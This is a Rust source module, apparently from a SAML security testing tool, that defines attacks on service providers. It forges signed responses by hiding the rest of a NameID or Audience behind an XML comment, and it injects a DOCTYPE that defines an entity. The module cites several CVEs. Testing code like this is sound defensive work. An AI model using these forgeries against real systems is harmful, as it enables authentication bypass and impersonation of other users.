//! Attacks in the text: comments that canonicalization drops, and a document type that nobody asked for.

use super::{Attack, ORDINARY, is_signed_plain};
use crate::draft::Draft;
use crate::recipe::{Recipe, RecipeError};
use crate::step::Step;
use crate::tree::{Element, Node};
use crate::workshop::Workshop;

/// A domain in which the attacker can register any name.
const SUFFIX: &str = ".attacker.test";

pub(super) const COMMENT_IN_NAME_ID: Attack = Attack {
    id: "comment_in_name_id",
    about: "The IdP signed for someone whose name starts with the attacker's; a comment after that part hides the rest from an SP that reads only the first text node.",
    source: "C14-02; VU#475445; CVE-2017-11427, CVE-2017-11428, CVE-2018-0489",
    forges: true,
    needs: "a signed message that is not encrypted",
    applies: is_signed_plain,
    steps: &[Step::Draft(longer_name), Step::Signed(comment_after_name)],
    ..ORDINARY
};

fn longer_name(draft: &mut Draft, recipe: &Recipe) {
    let longer = format!("{}{SUFFIX}", recipe.attacker.user_name);
    for attribute in &mut draft.attributes {
        for value in attribute.values.iter_mut().filter(|value| **value == recipe.person.user_name) {
            value.clone_from(&longer);
        }
    }
    draft.name_id = Some(longer);
}

fn comment_after_name(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let name = workshop.recipe.attacker.user_name.clone();
    workshop.response.walk_mut(&mut |element| split_by_comment(element, &name));
    Ok(())
}

/// Puts a comment between `start` and the suffix, wherever an element says exactly both.
fn split_by_comment(element: &mut Element, start: &str) {
    if element.text() == format!("{start}{SUFFIX}") {
        element.children = vec![Node::text(start), Node::Comment(String::new()), Node::text(SUFFIX)];
    }
}

pub(super) const COMMENT_IN_AUDIENCE: Attack = Attack {
    id: "comment_in_audience",
    about: "The Assertion is for another SP whose name starts with ours; a comment hides the rest of the Audience.",
    source: "C14-02; PRO-03",
    needs: "a signed message that is not encrypted",
    applies: is_signed_plain,
    steps: &[Step::Draft(longer_audience), Step::Signed(comment_after_audience)],
    ..ORDINARY
};

fn longer_audience(draft: &mut Draft, recipe: &Recipe) {
    draft.audiences = vec![vec![format!("{}{SUFFIX}", recipe.sp.entity_id)]];
}

fn comment_after_audience(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let name = workshop.recipe.sp.entity_id.clone();
    workshop.response.walk_mut(&mut |element| split_by_comment(element, &name));
    Ok(())
}

pub(super) const DOCTYPE: Attack = Attack {
    id: "doctype",
    about: "The genuine message starts with a document type declaration that defines an entity.",
    source: "XML-01; CVE-2024-52596; CVE-2025-23369",
    steps: &[Step::Text(doctype)],
    ..ORDINARY
};

fn doctype(xml: &mut String) {
    let after_declaration = xml.find("?>").map_or(0, |end| end + 2);
    xml.insert_str(after_declaration, r#"<!DOCTYPE r [<!ENTITY name "mallory@example.test">]>"#);
}
